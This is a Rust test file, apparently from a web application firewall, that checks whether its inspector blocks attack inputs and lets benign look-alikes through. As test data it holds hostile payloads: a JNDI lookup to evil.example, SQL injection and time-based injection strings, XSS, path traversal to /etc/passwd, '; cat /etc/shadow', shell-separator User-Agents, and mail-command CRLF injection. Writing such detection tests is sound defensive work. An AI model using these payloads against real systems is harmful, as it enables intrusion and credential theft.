        i.inspect_head(&HeadParts { method: "GET", path: p, query: None, headers: &[] }, &mut r);
        r.should_block(i.config())
    };
    for p in ["/_vti_pvt/", "/iisadmpwd/aexp.htr", "/CFIDE/administrator/index.cfm", "/names.nsf", "/msadc/readme.txt"]
    {
        assert!(path(p), "{p}");
    }
    for p in ["/samples", "/blog/private-life", "/servlets/guide", "/admin/login", "/catalog/shoes"] {
        assert!(!path(p), "{p}");
    }
}

/// Clean header values are remembered per thread and not scanned again; the memo never hides a
/// finding: not for a value with one, not after the classes in force change, not across inspectors.
#[test]
fn clean_header_memo_never_hides_findings() {
    let i = insp();
    let ua = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    let bad = b"Mozilla/5.0 ${jndi:ldap://evil.example/a}";
    let run = |i: &Inspector, o: &Overlay, v: &[u8]| {
        let h: [(&str, &[u8]); 1] = [("X-Api-Version", v)];
        let mut r = Report::default();
        i.inspect_head_with(&HeadParts { method: "GET", path: "/", query: None, headers: &h }, o, &mut r);
        r
    };
    let none = Overlay::default();
    for _ in 0..3 {
        assert!(run(&i, &none, ua).findings.is_empty());
        assert!(run(&i, &none, bad).should_block(i.config()), "found every time");
    }
    // a value clean while the class was off is scanned again once it is on
    let mut off = Overlay::default();
    off.detectors.insert("sqli".into(), DetectorMode::Off);
    let sql = b"1' or '1'='1' -- x";
    assert!(!run(&i, &off, sql).should_block(i.config()));
    assert!(run(&i, &none, sql).should_block(i.config()));
    // another inspector (another rule set) does not trust this one's memo
    let strict = Inspector::new(PayloadConfig { paranoia: 3, ..PayloadConfig::default() }).expect("pl3");
    let cookie: [(&str, &[u8]); 1] = [("Cookie", b"next=https://partner.example/landing")];
    let head = HeadParts { method: "GET", path: "/", query: None, headers: &cookie };
    let mut r = Report::default();
    i.inspect_head(&head, &mut r);
    assert!(r.findings.is_empty(), "{:?}", r.findings);
    let mut r = Report::default();
    strict.inspect_head(&head, &mut r);
    assert!(r.findings.iter().any(|f| f.rule == "rfi.offsite_url"), "{:?}", r.findings);
}

/// The memo of clean values covers query and form arguments and paths too: whatever a thread
/// inspected before, a request gets the findings a thread that never saw a value gets. Values
/// (clean look-alikes and attacks) go in every place, in a shuffled order, twice.
#[test]
fn clean_memo_gives_the_findings_of_a_cold_thread() {
    let i = std::sync::Arc::new(insp());
    let values = [
        "2",
        "price",
        "red shoes",
        "newsletter",
        "ls",
        "ls -la /tmp",
        "1 or 1=1",
        "1' or '1'='1' -- x",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "select",
        "https://partner.example/landing",
        "; cat /etc/shadow",
        "O'Brien",
        // findings in one place only: a scanner's User-Agent, a server file in a path
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        ".htaccess",
        "web.config",
    ];
    // (place, value) -> the rule ids found, request by request
    let run = |i: &Inspector, place: usize, v: &str| -> Vec<String> {
        let e = enc(v);
        let mut r = Report::default();
        match place {
            0 => {
                let q = format!("q={e}&page=2");
                i.inspect_head(&HeadParts { method: "GET", path: "/search", query: Some(&q), headers: &[] }, &mut r)
            }
            1 => {
                let q = format!("{e}=1");
                i.inspect_head(&HeadParts { method: "GET", path: "/search", query: Some(&q), headers: &[] }, &mut r)
            }
            2 => {
                let h: [(&str, &[u8]); 1] = [("X-Note", v.as_bytes())];
                i.inspect_head(&HeadParts { method: "GET", path: "/", query: None, headers: &h }, &mut r)
            }
            3 => {
                let c = format!("session=abc; pref={e}");
                let h: [(&str, &[u8]); 1] = [("Cookie", c.as_bytes())];
                i.inspect_head(&HeadParts { method: "GET", path: "/", query: None, headers: &h }, &mut r)
            }
            4 => {
                let p = format!("/files/{e}");
                i.inspect_head(&HeadParts { method: "GET", path: &p, query: None, headers: &[] }, &mut r)
            }
            5 => {
                let h: [(&str, &[u8]); 1] = [("User-Agent", v.as_bytes())];
                i.inspect_head(&HeadParts { method: "GET", path: "/", query: None, headers: &h }, &mut r)
            }
            _ => {
                let body = format!("comment={e}&page=2");
                i.inspect_body("/submit", Some("application/x-www-form-urlencoded"), body.as_bytes(), false, &mut r)
            }
        }
        let mut ids: Vec<String> = r.findings.iter().map(|f| format!("{}@{:?}", f.rule, f.location)).collect();
        ids.sort();
        ids
    };
    let mut order: Vec<(usize, usize)> = (0..7).flat_map(|p| (0..values.len()).map(move |v| (p, v))).collect();
    // a fixed shuffle (xorshift), then the same requests again in reverse
    let mut x = 0x9e37_79b9_7f4a_7c15u64;
    for k in (1..order.len()).rev() {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        order.swap(k, (x % (k as u64 + 1)) as usize);
    }
    let again: Vec<_> = order.iter().rev().copied().collect();
    let mut found = 0;
    for (place, v) in order.into_iter().chain(again) {
        let warm = run(&i, place, values[v]);
        let cold = {
            let i = i.clone();
            let value = values[v];
            std::thread::spawn(move || run(&i, place, value)).join().expect("cold thread")
        };
        assert_eq!(warm, cold, "place {place}, value {:?}", values[v]);
        found += usize::from(!warm.is_empty());
    }
    assert!(found >= 7 * 2 * 4, "the attacks are found: {found}");
}

/// Address headers that fit the plain list grammar are skipped; one carrying anything else is
/// inspected like any header (SQL injection through a logged `X-Forwarded-For`).
#[test]
fn address_headers() {
    let i = insp();
    let run = |v: &[u8]| {
        let h: [(&str, &[u8]); 1] = [("X-Forwarded-For", v)];
        let mut r = Report::default();
        i.inspect_head(&HeadParts { method: "GET", path: "/", query: None, headers: &h }, &mut r);
        r
    };
    assert!(run(b"203.0.113.7, 10.0.0.1").findings.is_empty());
    assert!(run(b"2001:db8::1").findings.is_empty());
    assert!(run(b"1.2.3.4' or sleep(5)#").should_block(i.config()));
}

/// Attack classes added in session 6, each with its look-alikes.
#[test]
fn orm_lookups_mail_commands_escapes_and_ua_separators() {
    let i = insp();
    let rule_of = |r: &Report| r.findings.iter().map(|f| f.rule).collect::<Vec<_>>();
    // Django ORM lookups that walk relations into accounts, or several relations deep
    for q in [
        "user__password__startswith=a",
        "created_by__departments__employees__user__username__startswith=p",
        "author__email__icontains=%40corp",
        "owner__profile__city__iexact=x",
    ] {
        let r = query(&i, q);
        assert!(r.should_block(i.config()), "{q}: {:?}", r.findings);
        assert!(rule_of(&r).contains(&"sqli.orm_lookup"), "{q}");
    }
    // what django-filter forms and ordinary names look like
    for q in [
        "price__gte=10",
        "name__icontains=tea",
        "category__slug__in=a,b",
        "__utma=1",
        "a__b=1",
        "_ga=GA1.2",
        // the Django admin's filter links
        "groups__id__exact=1",
        "author__id__exact=3",
        "user__id__in=1,2",
        "user__is_staff__exact=1",
    ] {
        let r = query(&i, q);
        assert!(!r.should_block(i.config()), "{q}: {:?}", r.findings);
    }
    // a mail-protocol command after a line break (SMTP/POP3/IMAP injection)
    for v in
        ["x\r\nRCPT TO: <victim@example.com>", "\r\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891", "\nlist 3", "\r\nQUIT"]
    {
        blocks(v);
    }
    // lines of a query value that merely start with those words
    for v in ["a\nlist of things", "data\nis here", "user name"] {
        let r = value(&i, v);
        assert!(!rule_of(&r).contains(&"crlf.mail_command"), "{v:?}: {:?}", r.findings);
    }
    // a plain letter written as a \u00XX escape
    blocks("\\u0061lert(1)");
    let r = form(&i, "testarg", "\\u0061lert");
    assert!(r.should_block(i.config()), "{:?}", r.findings);
    passes("caf\\u00e9 and \\u00a0 spaces");
    // a User-Agent that starts with a shell separator
    for ua in [";env", "| id", "$(id)", "`id`", "&& whoami"] {
        let h: [(&str, &[u8]); 1] = [("User-Agent", ua.as_bytes())];
        let mut r = Report::default();
        i.inspect_head(&HeadParts { method: "GET", path: "/", query: None, headers: &h }, &mut r);
        assert!(r.should_block(i.config()), "{ua}");
    }
    // `cd` to a directory in a chain; prose about CDs is not
    blocks("cd /;cd etc;ls");
    passes("Buy the vinyl; CD also available");
    // SQL: a closed string, a keyword and the rest commented out at the end
    blocks("z'or email notnull--");
    blocks("user'collate \"utf8mb4_general_ci\"--");
    passes("Rock 'n' roll or not #1");
    passes("I wrote \"hello\" in C#");
    passes("the 'in' crowd #2");
    // `'ortrue` is one identifier, not a tautology
    let r = value(&i, "'ortrue");
    assert!(!r.findings.iter().any(|f| f.rule == "sqli.tautology"), "{:?}", r.findings);
    // an XML declaration is not a script; an event handler written into a name is
    let r = value(&i, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>");
    assert!(!r.should_block(i.config()), "{:?}", r.findings);
    let r = query(&i, &format!("{}=x", enc("  onmouseover= ")));
    assert!(r.should_block(i.config()), "{:?}", r.findings);
}
